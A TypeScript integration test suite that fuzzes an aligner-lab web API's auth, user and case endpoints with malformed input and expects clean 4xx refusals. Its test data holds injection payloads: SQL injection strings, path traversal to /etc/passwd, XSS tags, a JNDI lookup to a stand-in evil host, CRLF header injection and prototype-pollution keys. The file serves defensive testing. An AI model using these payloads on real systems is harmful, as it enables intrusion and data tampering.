import { Client } from 'pg';
import type { CaseStatus } from '@alignerflow/domain';
import { startTestApp, type TestApp } from './support/test-app';
import { byUsername as clientsOf, caseAt as roadCaseAt } from './support/case-road';
import { ApiClient, type HttpAnswer } from './support/http';
import { failOnSecretsInAnswers } from './support/no-secrets';

failOnSecretsInAnswers();

/**
 * Every endpoint of the Auth, Users and Cases tables against input no client should send: wrong
 * types, missing fields, 1 MB strings, malformed or odd JSON, unknown ids and odd characters.
 * Each answer must be a 4xx with a JSON `{ error }` (never a 5xx, never HTML) and change nothing:
 * the event log keeps its length and the target case or user stays as it was.
 */

type Kind =
  | 'text' // free text: any printable Unicode is valid data; control characters are not
  | 'name' // an identifier or an enumerated value: usernames, roles, statuses, dates, QR payloads
  | 'url'
  | 'number' // a number or a numeric string
  | 'bool'
  | 'version' // expectedVersion
  | 'secret'; // a password: kept exactly as typed, so only its type and size are judged

interface Endpoint {
  name: string;
  method: string;
  /** The path for the target (a case id or a username, already URL-encoded). */
  path: (target: string) => string;
  caller: () => ApiClient;
  /** A fresh target the valid body would succeed on: the refusals are the input's doing. */
  target: () => Promise<string>;
  /** A body the endpoint would accept. */
  body?: Record<string, unknown>;
  fields?: Record<string, Kind>;
  /** Fields that must be present. */
  required?: string[];
}

const MB = 1024 * 1024;
/** ≈1 MB in UTF-8 yet, with the rest of a body, still inside the 1 MB body limit. */
const ONE_MB_STRING = 'é'.repeat(MB / 2 - 1000);
const CONTROL = ['a\u0000b', 'bell\u0007', '\u001b[31mred', 'half \ud800 pair'];
/** Valid text wherever free text goes; never a name, a status, a date or a URL. */
const ODD = [
  'Zoë 名前 😀',
  '\u202Etxt.exe',
  "' OR '1'='1",
  "x'; DROP TABLE events; --",
  '../../etc/passwd',
  '<script>alert(1)</script>${jndi:ldap://evil.example/a}',
];
const WRONG_TYPES: Record<Kind, unknown[]> = {
  text: [42, true, { $ne: null }, ['x']],
  name: [42, true, { $ne: null }, ['dr.lee']],
  url: [42, true, {}, ['https://x.example']],
  number: [true, { $gt: 0 }, [1], -5, 10_000_000],
  bool: ['yes', 1, {}, []],
  // 2^53 is a whole number but no version any case will reach: a stale version, 409.
  version: ['1', -1, 1.5, {}, 'abc', 2 ** 53],
  secret: [42, true, {}, ['demo'], null],
};

/** What each field is tried with. (A body over the 1 MB limit is tried once per endpoint.) */
function variants(kind: Kind): unknown[] {
  const sizes = kind === 'number' || kind === 'bool' || kind === 'version' ? [] : [ONE_MB_STRING];
  const control = kind === 'text' || kind === 'name' || kind === 'url' ? CONTROL : [];
  const odd = kind === 'name' || kind === 'url' ? ODD : [];
  return [...WRONG_TYPES[kind], ...sizes, ...control, ...odd];
}

function isJson(raw: string): boolean {
  try {
    JSON.parse(raw);
    return true;
  } catch {
    return false;
  }
}

/** Raw bodies that are not a JSON object at all. */
const MALFORMED = ['{', '{"a":1', '{"a":1}{"b":2}', "{'a':1}", '[]', '"text"', '42', 'null'];

const ODD_CASE_IDS = [
  'CA-0000-000',
  'ca-2024-001',
  'CA-2024-001%20',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e',
  "'%20OR%20'1'%3D'1",
  'CA-2024-001'.concat(encodeURIComponent("'; DROP TABLE events; --")),
  '%F0%9F%98%80%E2%80%AE',
  'CA-2024-001%00',
  '%0D%0ASet-Cookie%3A%20af_session%3Dx',
  '%E0%A4%A',
  '%ED%A0%80',
  'x'.repeat(4000),
  '__proto__',
];
const ODD_USERNAMES = [
  'nobody',
  'admin%00',
  '%00',
  '..%2Fadmin',
  '..%2F..%2Fetc%2Fpasswd',
  "admin'--",
  "'%20OR%20'1'%3D'1",
  '%F0%9F%98%80',
  '%E0%A4%A',
  '%ED%A0%80',
  '%0D%0A',
  'x'.repeat(4000),
  '__proto__',
];

describe('bad input over HTTP', () => {
  let lab: TestApp;
  let db: Client;
  let admin: ApiClient,
    rep: ApiClient,
    designer: ApiClient,
    tech: ApiClient,
    drLee: ApiClient,
    leaving: ApiClient;

  beforeAll(async () => {
    lab = await startTestApp();
    db = new Client({ connectionString: lab.databaseUrl });
    await db.connect();
    [admin, rep, designer, tech, drLee, leaving] = await Promise.all(
      ['admin', 'rep', 'designer', 'tech', 'dr.lee', 'rep'].map((name) => lab.login(name)),
    );
  });
  afterAll(async () => {
    await db?.end();
    await lab?.close();
  });

  async function eventCount(): Promise<number> {
    return (await db.query<{ n: number }>('SELECT count(*)::int AS n FROM events')).rows[0].n;
  }

  /** A new case of dr.lee's (three upper sheets) at `status`, by the usual road. */
  const caseAt = async (status: CaseStatus): Promise<string> =>
    (await roadCaseAt(clientsOf(admin, rep, drLee), status, { upperSheets: 3 }, 'rep')).id;

  const heldCase = async () => {
    const id = await caseAt('Digital Planning');
    expect((await admin.post(`/cases/${id}/hold`)).status).toBe(200);
    return id;
  };

  const ENDPOINTS: Endpoint[] = [
    {
      name: 'login',
      method: 'POST',
      path: () => '/auth/login',
      caller: () => lab.anonymous,
      target: async () => '',
      body: { username: 'admin', password: 'demo', rememberMe: false },
      fields: { username: 'name', password: 'secret', rememberMe: 'bool' },
      required: ['username', 'password'],
    },
    // A session of its own: the valid request at the end ends it.
    {
      name: 'logout',
      method: 'POST',
      path: () => '/auth/logout',
      caller: () => leaving,
      target: async () => '',
    },
    { name: 'me', method: 'GET', path: () => '/auth/me', caller: () => rep, target: async () => '' },
    { name: 'list users', method: 'GET', path: () => '/users', caller: () => admin, target: async () => '' },
    {
      name: 'read user',
      method: 'GET',
      path: (u) => `/users/${u}`,
      caller: () => admin,
      target: async () => 'rep',
    },
    {
      name: 'create user',
      method: 'POST',
      path: () => '/users',
      caller: () => admin,
      target: async () => '',
      body: {
        username: 'newbie',
        password: 'fresh-Lantern-pw-1',
        role: 'Technician',
        email: 'newbie@lab.example',
      },
      fields: { username: 'name', password: 'secret', role: 'name', email: 'text' },
      required: ['username', 'password'],
    },
    {
      name: 'update user',
      method: 'PUT',
      path: (u) => `/users/${u}`,
      caller: () => admin,
      target: async () => 'rep',
      body: { email: 'rep@lab.example' },
      fields: { activationSoundEnabled: 'bool', email: 'text', role: 'name', password: 'secret' },
    },
    {
      name: 'delete user',
      method: 'DELETE',
      path: (u) => `/users/${u}`,
      caller: () => admin,
      target: async () => 'designer',
    },
    { name: 'list cases', method: 'GET', path: () => '/cases', caller: () => admin, target: async () => '' },
    {
      name: 'dashboard',
      method: 'GET',
      path: () => '/dashboard',
      caller: () => admin,
      target: async () => '',
    },
    {
      name: 'read case',
      method: 'GET',
      path: (id) => `/cases/${id}`,
      caller: () => drLee,
      target: () => caseAt('Pending Approval'),
    },
    {
      name: 'history',
      method: 'GET',
      path: (id) => `/cases/${id}/history`,
      caller: () => drLee,
      target: () => caseAt('Digital Planning'),
    },
    {
      name: 'create case',
      method: 'POST',
      path: () => '/cases',
      caller: () => rep,
      target: async () => '',
      body: {
        patientName: 'P',
        doctorName: 'D',
        clinicName: 'C',
        priority: 'Normal',
        deliveryDate: '2031-01-01',
        treatmentPlanNotes: 'Notes',
        price: '10',
        upperSheets: 2,
        lowerSheets: '2',
        files: [],
      },
      fields: {
        patientName: 'text',
        doctorName: 'text',
        clinicName: 'text',
        priority: 'name',
        deliveryDate: 'name',
        treatmentPlanNotes: 'text',
        price: 'number',
        upperSheets: 'number',
        lowerSheets: 'number',
      },
      required: ['patientName', 'doctorName', 'clinicName'],
    },
    {
      name: 'edit case',
      method: 'PUT',
      path: (id) => `/cases/${id}`,
      caller: () => admin,
      target: () => caseAt('Digital Planning'),
      body: { patientName: 'Edited' },
      fields: {
        patientName: 'text',
        doctorName: 'text',
        clinicName: 'text',
        priority: 'name',
        deliveryDate: 'name',
        treatmentPlanNotes: 'text',
        simulationVideoUrl: 'url',
        simulationExternalLink: 'url',
        expectedVersion: 'version',
      },
    },
    {
      name: 'delete case',
      method: 'DELETE',
      path: (id) => `/cases/${id}`,
      caller: () => admin,
      target: () => caseAt('Pending Approval'),
    },
    {
      name: 'approve',
      method: 'POST',
      path: (id) => `/cases/${id}/approve`,
      caller: () => admin,
      target: () => caseAt('Pending Approval'),
      body: { doctorUsername: 'dr.lee' },
      fields: { doctorUsername: 'name', expectedVersion: 'version' },
      required: ['doctorUsername'],
    },
    {
      name: 'reject',
      method: 'POST',
      path: (id) => `/cases/${id}/reject`,
      caller: () => admin,
      target: () => caseAt('Pending Approval'),
      body: { reason: 'Unusable scans' },
      fields: { reason: 'text', expectedVersion: 'version' },
      required: ['reason'],
    },
    {
      name: 'advance',
      method: 'POST',
      path: (id) => `/cases/${id}/advance`,
      caller: () => designer,
      target: () => caseAt('Digital Planning'),
      body: {},
      fields: { fromStatus: 'name', expectedVersion: 'version' },
    },
    {
      name: 'doctor-approve',
      method: 'POST',
      path: (id) => `/cases/${id}/doctor-approve`,
      caller: () => drLee,
      target: () => caseAt('Doctor Approval'),
      body: {},
      fields: { expectedVersion: 'version' },
    },
    {
      name: 'request-changes',
      method: 'POST',
      path: (id) => `/cases/${id}/request-changes`,
      caller: () => drLee,
      target: () => caseAt('Doctor Approval'),
      body: { comment: 'Less movement' },
      fields: { comment: 'text', expectedVersion: 'version' },
      required: ['comment'],
    },
    {
      name: 'hold',
      method: 'POST',
      path: (id) => `/cases/${id}/hold`,
      caller: () => admin,
      target: () => caseAt('Digital Planning'),
      body: {},
      fields: { expectedVersion: 'version' },
    },
    {
      name: 'resume',
      method: 'POST',
      path: (id) => `/cases/${id}/resume`,
      caller: () => admin,
      target: heldCase,
      body: {},
      fields: { expectedVersion: 'version' },
    },
    {
      name: 'notes',
      method: 'POST',
      path: (id) => `/cases/${id}/notes`,
      caller: () => drLee,
      target: () => caseAt('Digital Planning'),
      body: { text: 'A note' },
      fields: { text: 'text', expectedVersion: 'version' },
      required: ['text'],
    },
    {
      name: 'pricing',
      method: 'PUT',
      path: (id) => `/cases/${id}/pricing`,
      caller: () => rep,
      target: () => caseAt('Digital Planning'),
      body: { price: '99.90', upperSheets: '3', lowerSheets: 2 },
      fields: { price: 'number', upperSheets: 'number', lowerSheets: 'number', expectedVersion: 'version' },
    },
    {
      name: 'simulation',
      method: 'PUT',
      path: (id) => `/cases/${id}/simulation`,
      caller: () => designer,
      target: () => caseAt('Digital Planning'),
      body: { simulationVideoUrl: 'https://sim.example/v.mp4', simulationExternalLink: '' },
      fields: { simulationVideoUrl: 'url', simulationExternalLink: 'url', expectedVersion: 'version' },
    },
    {
      name: 'reassign',
      method: 'PUT',
      path: (id) => `/cases/${id}/stages/Thermoforming/assignee`,
      caller: () => admin,
      target: () => caseAt('Model Printing'),
      body: { assignee: 'tech' },
      fields: { assignee: 'name', expectedVersion: 'version' },
      required: ['assignee'],
    },
    {
      name: 'qr',
      method: 'POST',
      path: (id) => `/cases/${id}/qr`,
      caller: () => tech,
      target: () => caseAt('Model Printing'),
      body: {},
      fields: { expectedVersion: 'version' },
    },
    ...['start', 'complete', 'reopen', 'reset'].map((action): Endpoint => ({
      name: `staging ${action}`,
      method: 'POST',
      path: (id) => `/cases/${id}/staging/${action === 'start' || action === 'reset' ? 1 : 2}/${action}`,
      caller: () => drLee,
      target: async () => {
        const id = await caseAt('Completed');
        // Stage 2 completed, so that complete (after a start) and reopen would both be valid.
        await drLee.post(`/cases/${id}/staging/2/start`);
        if (action === 'reopen') await drLee.post(`/cases/${id}/staging/2/complete`);
        return id;
      },
      body: {},
      fields: { expectedVersion: 'version' },
    })),
    {
      name: 'scan',
      method: 'POST',
      path: () => '/scan',
      caller: () => drLee,
      target: async () => '',
      body: { payload: 'CA-2024-001' },
      fields: { payload: 'name' },
      required: ['payload'],
    },
  ];

  /** What a refusal looks like: a 4xx with a JSON `{ error }` text. */
  function expectRefused(answer: HttpAnswer, what: string, status?: number) {
    const summary = `${what} → ${answer.status} ${JSON.stringify(answer.body)?.slice(0, 200)}`;
    expect({ summary, refused: answer.status >= 400 && answer.status < 500 }).toEqual({
      summary,
      refused: true,
    });
    if (status !== undefined) expect({ summary, status: answer.status }).toEqual({ summary, status });
    expect(answer.headers.get('content-type') ?? '').toMatch(/^application\/json/);
    expect(typeof answer.body?.error).toBe('string');
    expect(answer.body.error.length).toBeGreaterThan(0);
  }

  /** The target as its owner reads it (for users: the public user), to compare before and after. */
  async function read(endpoint: Endpoint, target: string) {
    if (!target) return null;
    return endpoint.path(target).startsWith('/users')
      ? (await admin.get(`/users/${target}`)).body
      : (await admin.get(`/cases/${target}`)).body;
  }

  /**
   * Sends refused requests at once (they must not interfere, as none may change anything); the
   * event log and the target stay as they were.
   */
  async function refusedWithoutChange(
    endpoint: Endpoint,
    target: string,
    requests: { what: string; send: () => Promise<HttpAnswer>; status?: number }[],
  ) {
    const before = await read(endpoint, target);
    const events = await eventCount();
    const answers = await Promise.all(requests.map(({ send }) => send()));
    requests.forEach(({ what, status }, index) =>
      expectRefused(answers[index], `${endpoint.name}: ${what}`, status),
    );
    expect(await eventCount()).toBe(events);
    expect(await read(endpoint, target)).toEqual(before);
  }

  const withBody = ENDPOINTS.filter((endpoint) => endpoint.method === 'POST' || endpoint.method === 'PUT');

  describe.each(withBody.map((endpoint) => [endpoint.name, endpoint] as const))('%s', (_, endpoint) => {
    /** One target per endpoint: the valid body would succeed on it, so each refusal is the input's doing. */
    let target: string;
    beforeAll(async () => {
      target = await endpoint.target();
    });
    const send = (body: unknown) => () =>
      endpoint.caller().request(endpoint.method, endpoint.path(target), body);

    it('refuses a body that is not a JSON object', async () => {
      // An endpoint without a body ignores one, as long as it parses.
      const bodies = endpoint.body ? MALFORMED : MALFORMED.filter((raw) => !isJson(raw));
      await refusedWithoutChange(
        endpoint,
        target,
        bodies.map((raw) => ({ what: `body ${JSON.stringify(raw)}`, status: 400, send: send(raw) })),
      );
    });

    it('refuses an oversized or absurdly nested body', async () => {
      await refusedWithoutChange(endpoint, target, [
        {
          what: 'a string over the 1 MB body limit',
          status: 413,
          send: send({ ...endpoint.body, [Object.keys(endpoint.fields ?? {})[0] ?? 'junk']: 'x'.repeat(MB) }),
        },
        {
          what: 'nested 10 000 deep',
          status: 400,
          send: send(`{"junk":${'['.repeat(10_000)}${']'.repeat(10_000)}}`),
        },
      ]);
    });

    const fields = Object.entries(endpoint.fields ?? {});
    if (fields.length) {
      it.each(fields)('refuses a wrong type, a 1 MB string or odd characters in %s', async (field, kind) => {
        await refusedWithoutChange(
          endpoint,
          target,
          variants(kind).map((value) => ({
            what: `${field} = ${JSON.stringify(value)?.slice(0, 60)}`,
            send: send({ ...endpoint.body, [field]: value }),
          })),
        );
      });
    }

    if (endpoint.required?.length) {
      it('refuses missing or null required fields with 400', async () => {
        await refusedWithoutChange(
          endpoint,
          target,
          endpoint.required!.flatMap((field) =>
            [undefined, null, '', '   '].map((value) => ({
              what: `${field} = ${JSON.stringify(value)}`,
              // Absent or null is a validation error; an empty string may also be an unknown name.
              status: value === undefined || value === null ? 400 : undefined,
              send: send({ ...endpoint.body, [field]: value }),
            })),
          ),
        );
      });
    }

    it('still accepts the valid body (so the refusals above were the input’s doing)', async () => {
      const answer = await send(endpoint.body ?? {})();
      expect(answer.status).toBeLessThan(300);
    });
  });

  const byCaseId = ENDPOINTS.filter((endpoint) => endpoint.path('ID').includes('/cases/ID'));
  it.each(byCaseId.map((endpoint) => [endpoint.name, endpoint] as const))(
    '%s: odd and unknown case ids are 4xx and change nothing',
    async (_, endpoint) => {
      const events = await eventCount();
      const before = (await admin.get('/cases')).body;
      const answers = await Promise.all(
        ODD_CASE_IDS.map(
          async (id) =>
            [id, await endpoint.caller().request(endpoint.method, endpoint.path(id), endpoint.body)] as const,
        ),
      );
      for (const [id, answer] of answers) expectRefused(answer, `${endpoint.name} ${id.slice(0, 40)}`);
      expect(await eventCount()).toBe(events);
      expect((await admin.get('/cases')).body).toEqual(before);
    },
  );

  const byUsername = ENDPOINTS.filter((endpoint) => endpoint.path('U').startsWith('/users/U'));
  it.each(byUsername.map((endpoint) => [endpoint.name, endpoint] as const))(
    '%s: odd and unknown usernames are 4xx and change nothing',
    async (_, endpoint) => {
      const events = await eventCount();
      const before = (await admin.get('/users')).body;
      const answers = await Promise.all(
        ODD_USERNAMES.map((username) =>
          endpoint.caller().request(endpoint.method, endpoint.path(username), endpoint.body),
        ),
      );
      answers.forEach((answer, index) =>
        expectRefused(answer, `${endpoint.name} ${ODD_USERNAMES[index].slice(0, 40)}`),
      );
      expect(await eventCount()).toBe(events);
      expect((await admin.get('/users')).body).toEqual(before);
    },
  );

  it('odd stage numbers, staging actions and workflow statuses in paths are 4xx and change nothing', async () => {
    const completed = await caseAt('Completed');
    const planned = await caseAt('Model Printing');
    const events = await eventCount();
    const requests: [string, () => Promise<HttpAnswer>][] = [
      ...[
        '0',
        '-1',
        '1.5',
        '1e0',
        'abc',
        '%00',
        '1%00',
        '..%2F1',
        '%F0%9F%98%80',
        '99999999999999999999',
        '0x1',
      ].map((n): [string, () => Promise<HttpAnswer>] => [
        `stage ${n}`,
        () => drLee.post(`/cases/${completed}/staging/${n}/start`),
      ]),
      ...['explode', 'START', '__proto__', 'constructor', 'toString', '..%2Fstart', '%00', 'start%00'].map(
        (action): [string, () => Promise<HttpAnswer>] => [
          `action ${action}`,
          () => drLee.post(`/cases/${completed}/staging/1/${action}`),
        ],
      ),
      ...[
        'Painting',
        'Rejected%20',
        '__proto__',
        'constructor',
        '..%2F..%2Fetc%2Fpasswd',
        "Thermoforming'--",
        '%00',
        'Thermoforming%00',
        '%F0%9F%98%80',
        'x'.repeat(3000),
      ].map((status): [string, () => Promise<HttpAnswer>] => [
        `status ${status.slice(0, 40)}`,
        () => admin.put(`/cases/${planned}/stages/${status}/assignee`, { assignee: 'tech' }),
      ]),
    ];
    for (const [what, send] of requests) expectRefused(await send(), what);
    expect(await eventCount()).toBe(events);
  });

  it('stores text that merely looks like code or uses any script as plain data', async () => {
    const id = await caseAt('Digital Planning');
    for (const text of ODD) {
      const note = await drLee.post(`/cases/${id}/notes`, { text });
      expect(note.status).toBe(201);
      expect(note.body.notes[note.body.notes.length - 1].text).toBe(text.trim());
    }
    const created = await rep.post('/cases', {
      patientName: "Zoë O'Brien-名前 😀",
      doctorName: 'Robert"); DROP TABLE events;--',
      clinicName: '<img src=x onerror=alert(1)>',
    });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      patientName: "Zoë O'Brien-名前 😀",
      doctorName: 'Robert"); DROP TABLE events;--',
      clinicName: '<img src=x onerror=alert(1)>',
    });
    expect((await admin.get(`/cases/${created.body.id}`)).body.patientName).toBe("Zoë O'Brien-名前 😀");
    // The log is still there and still counting.
    expect(await eventCount()).toBeGreaterThan(10);
  });

  it('answers an unknown API path or method with a JSON 404', async () => {
    for (const [method, path] of [
      ['GET', '/nope'],
      ['PATCH', '/cases/CA-2024-001'],
      ['POST', '/cases/CA-2024-001/explode'],
      ['GET', '/cases/CA-2024-001/notes'],
    ]) {
      expectRefused(
        await admin.request(method, path, method === 'GET' ? undefined : {}),
        `${method} ${path}`,
        404,
      );
    }
  });

  it('reads a body only as JSON: another content type is refused, not guessed', async () => {
    const id = await caseAt('Digital Planning');
    const events = await eventCount();
    for (const [contentType, raw] of [
      ['text/plain', '{"text":"x"}'],
      ['application/x-www-form-urlencoded', 'text=x'],
      ['application/json; charset=latin1', '{"text":"x"}'],
    ]) {
      expectRefused(
        await admin.request('POST', `/cases/${id}/notes`, raw, { 'content-type': contentType }),
        contentType,
      );
    }
    expect(await eventCount()).toBe(events);
  });
});
